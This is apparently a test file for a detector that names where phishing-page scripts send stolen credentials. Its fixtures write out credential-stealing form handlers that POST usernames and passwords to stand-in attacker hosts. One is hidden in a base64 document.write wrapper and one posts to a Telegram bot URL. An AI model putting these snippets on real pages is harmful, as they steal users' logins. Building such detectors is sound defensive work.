import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeHiddenMarkup } from './decode-markup.js';
import { scriptDrops } from './exfil-analyzer.js';

const HANDLER = (url: string) => `document.getElementById('f1').addEventListener('submit', function (e) {
  e.preventDefault();
  var u = document.getElementById('u1').value, p = document.getElementById('p1').value;
  fetch('${url}', {method: 'POST', body: JSON.stringify({u: u, p: p})});
});`;

describe('scriptDrops', () => {
  const fields = new Set(['u1', 'p1']);

  it('names the off-site URL a credential handler posts to, whatever its path', () => {
    assert.deepEqual(
      scriptDrops([HANDLER('https://9f3a1c-panel.online/api/v1/collect')], fields, 'https://a.top/', 'a.top'),
      ['https://9f3a1c-panel.online/api/v1/collect'],
    );
    const xhr = `var x = new XMLHttpRequest(); x.open('POST', 'https://drop.example.net/in');
      x.send(document.querySelector('#p1').value);`;
    assert.deepEqual(scriptDrops([xhr], fields, 'https://a.top/', 'a.top'), ['https://drop.example.net/in']);
  });

  it('reads the handler a shell decodes', () => {
    const page = `<form id="f1"><input type="email" id="u1"><input type="password" id="p1"></form>
      <script>${HANDLER('https://77aa01-gate.xyz/c')}</script>`;
    const shell = `document.write(atob('${Buffer.from(page).toString('base64')}'))`;
    const decoded = decodeHiddenMarkup([shell]);
    assert.ok(decoded.length >= 1);
    // The fields are the page's credential inputs (analyze-page.ts merges the decoded markup's) and
    // the credential words; without any, nothing is named.
    assert.deepEqual(scriptDrops(decoded, new Set(), 'https://b.top/', 'b.top'), []);
    assert.deepEqual(scriptDrops(decoded, fields, 'https://b.top/', 'b.top'), ['https://77aa01-gate.xyz/c']);
  });

  it('leaves an honest sign-in that posts to its own site, and a post that reads no credential', () => {
    assert.deepEqual(
      scriptDrops([HANDLER('https://api.acme.com/session')], fields, 'https://login.acme.com/', 'acme.com'),
      [],
    );
    assert.deepEqual(scriptDrops([HANDLER('/session')], fields, 'https://login.acme.com/', 'acme.com'), []);
    const analytics = `navigator.sendBeacon('https://stats.example.org/c', JSON.stringify({page: location.href}));
      fetch('https://stats.example.org/e', {method: 'POST'});`;
    assert.deepEqual(scriptDrops([analytics], fields, 'https://a.top/', 'a.top'), []);
    // Joined with an honest handler that posts to its own site, the analytics call far before it
    // still names nothing.
    const joined = `${analytics}\n${'/* library */'.repeat(200)}\n${HANDLER('/session')}`;
    assert.deepEqual(scriptDrops([joined], fields, 'https://login.acme.com/', 'acme.com'), []);
  });

  it('never names a Telegram bot URL (its secret stays out of the URL entity)', () => {
    const tg = HANDLER(
      'https://api.telegram.org/bot5823412907:AAHq3v7TqXr9sAAHq3v7TqXr9sAAHq3v7Tq/sendMessage',
    );
    assert.deepEqual(scriptDrops([tg], fields, 'https://a.top/', 'a.top'), []);
  });
});
